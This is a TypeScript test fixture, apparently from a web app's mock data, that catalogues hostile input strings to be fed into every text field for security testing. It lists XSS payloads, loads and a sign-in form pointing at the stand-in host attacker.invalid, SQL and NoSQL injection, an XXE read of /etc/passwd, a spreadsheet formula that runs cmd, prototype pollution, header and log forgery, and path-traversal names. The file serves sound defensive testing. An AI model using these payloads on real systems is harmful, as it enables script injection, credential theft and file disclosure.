import { hostileMark, hostileTexts } from '@/mocks/seed/hostile-texts';

/** The attacker's gain if a text gets through. */
type Aim =
  | 'run a script'
  | 'make markup'
  | 'lead elsewhere'
  | 'load from elsewhere'
  | 'be a template'
  | 'be a formula'
  | 'pass for another text'
  | 'break what holds it'
  | 'change every object'
  | 'reach another file'
  | 'forge a line of a log'
  | 'ask the database'
  | 'exhaust';

export interface Vector {
  readonly id: string;
  readonly text: string;
  readonly aim: Aim;
}

const run = `globalThis.${hostileMark}=true`;
const elsewhere = 'https://attacker.invalid';

/** By the names of `src/mocks/seed/hostile-texts.ts`, which the demonstration's scenario is made of. */
const aims: Record<string, Aim> = {
  HTML: 'make markup',
  script: 'run a script',
  'script that closes the markup before it': 'run a script',
  'image that fails': 'run a script',
  'SVG that loads': 'run a script',
  'script address': 'run a script',
  template: 'be a template',
  'bidi override': 'pass for another text',
  'bidi override that is never closed': 'pass for another text',
  'zero-width characters': 'pass for another text',
  'right-to-left script': 'pass for another text',
  formula: 'be a formula',
  'formula behind a sign': 'be a formula',
  'formula with an at sign': 'be a formula',
  'object key': 'change every object',
  SQL: 'ask the database',
  path: 'reach another file',
  'combining characters': 'exhaust',
  '5,000 characters': 'exhaust',
  '5,000 characters without a space': 'exhaust',
};

const further: readonly (readonly [id: string, aim: Aim, text: string])[] = [
  [
    'frame with a document of its own',
    'run a script',
    `<iframe srcdoc="<script>parent.${hostileMark}=1</script>"></iframe>`,
  ],
  ['frame of another site', 'load from elsewhere', `<iframe src="${elsewhere}/frame"></iframe>`],
  ['script of another site', 'load from elsewhere', `<script src="${elsewhere}/a.js"></script>`],
  ['picture of another site', 'load from elsewhere', `<img src="${elsewhere}/pixel.gif">`],
  ['handler of details', 'run a script', `<details open ontoggle="${run}">x</details>`],
  ['handler that takes the focus', 'run a script', `<input autofocus onfocus="${run}">`],
  ['handler that breaks out of an attribute', 'run a script', `" onmouseover="${run}" x="`],
  ['handler that breaks out of a single quote', 'run a script', `' onpointerenter='${run}' x='`],
  ['object', 'run a script', `<object data="javascript:${run}"></object><embed src="javascript:${run}">`],
  ['script address with a tab', 'run a script', `java\tscript:${run}`],
  ['script address in entities', 'run a script', `&#106;avascript&colon;${run}`],
  ['link with a script address', 'run a script', `<a href="javascript:${run}">Noorderdiep-4</a>`],
  ['data address', 'run a script', `data:text/html;base64,${btoa(`<script>${run}</script>`)}`],
  ['script in entities', 'run a script', `&lt;script&gt;${run}&lt;/script&gt;`],
  ['script in percent signs', 'run a script', `%3Cscript%3E${run}%3C/script%3E`],
  [
    'MathML that hides markup',
    'run a script',
    `<math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  ],
  [
    'SVG with a foreign object',
    'run a script',
    `<svg><foreignObject><body onload="${run}"/></foreignObject></svg>`,
  ],
  ['template element', 'run a script', `<template shadowrootmode="open"><script>${run}</script></template>`],
  ['base address', 'lead elsewhere', `<base href="${elsewhere}/">`],
  ['page that leads on', 'lead elsewhere', `<meta http-equiv="refresh" content="0;url=${elsewhere}">`],
  ['form to another site', 'lead elsewhere', `<form action="${elsewhere}"><button>Sign in</button></form>`],
  ['address of another site', 'lead elsewhere', '//attacker.invalid/%2e%2e'],
  [
    'style sheet',
    'load from elsewhere',
    `</style><style>@import url("${elsewhere}/a.css");*{display:none}</style>`,
  ],
  ['style', 'load from elsewhere', `red;background:url(${elsewhere}/x);position:fixed;inset:0`],
  ['template of a framework', 'be a template', `{{constructor.constructor('${run}')()}}`],
  ['expression language', 'be a template', '#{7*7} *{7*7} @{7*7} [[7*7]]'],
  ['homograph', 'pass for another text', 'Nооrderdiep-4'],
  ['other half of a surrogate pair', 'break what holds it', 'broken \udc00 end'],
  ['noncharacters', 'break what holds it', 'a\ufffe\uffffb'],
  ['constructor', 'change every object', 'constructor'],
  ['prototype', 'change every object', 'prototype'],
  [
    'pollution in JSON',
    'change every object',
    '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
  ],
  ['breaker of JSON', 'break what holds it', '"}],"admin":true,"x":[{"y":"\\u0022'],
  ['breaker of XML', 'break what holds it', ']]><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'],
  ['comment of markup', 'break what holds it', '--><!--'],
  ['breaker of PDF', 'run a script', `) Tj /OpenAction << /S /JavaScript /JS (${run}) >> (`],
  ['formula behind a tab', 'be a formula', '\t=1+1'],
  ['formula behind a return', 'be a formula', '\r=1+1'],
  ['formula behind a minus', 'be a formula', "-2+3+cmd|'/C calc'!A0"],
  ['formula of full width', 'be a formula', '＝1+1'],
  ['plus of full width', 'be a formula', '＋1+1'],
  ['minus of full width', 'be a formula', '－1+1'],
  ['at sign of full width', 'be a formula', '＠SUM(1)'],
  ['formula after a comma', 'be a formula', 'x",=1+1,"'],
  ['formula on a line of its own', 'be a formula', 'x\r\n=1+1'],
  ['headers', 'forge a line of a log', 'x\r\nSet-Cookie: a=b\r\n\r\n<html>'],
  ['line of a log', 'forge a line of a log', 'x\n2026-11-22T10:00:00Z INFO admin@example.com signed in'],
  ['event of a stream', 'forge a line of a log', 'x\n\nevent: complete\ndata: {"montage_sections":[]}\n\n'],
  ['colours of a terminal', 'forge a line of a log', '\u001b]0;title\u0007\u001b[2J'],
  ['query', 'ask the database', "' OR '1'='1' UNION SELECT * FROM users --"],
  ['query of documents', 'ask the database', '{"$gt":""}'],
  ['path of Windows', 'reach another file', '..\\..\\Windows\\System32\\drivers\\etc\\hosts'],
  ['network share', 'reach another file', '\\\\attacker.invalid\\share\\a.docx'],
  ['device', 'reach another file', 'CON'],
  ['device with an extension', 'reach another file', 'aux.json'],
  ['stream of a file', 'reach another file', 'well.pdf:hidden.exe:$DATA'],
  ['file that hides its kind', 'reach another file', 'programme\u202efdp.exe'],
  ['hidden file', 'reach another file', '.htaccess'],
  ['dots', 'reach another file', '..'],
];

/** Every text that something hostile may write, once. Each is put into every place where a text comes in. */
export const vectors: readonly Vector[] = [
  ...hostileTexts.map(({ name, text }) => ({
    id: name,
    text,
    aim: aims[name] ?? ('break what holds it' as const),
  })),
  ...further.map(([id, aim, text]) => ({ id, aim, text })),
];
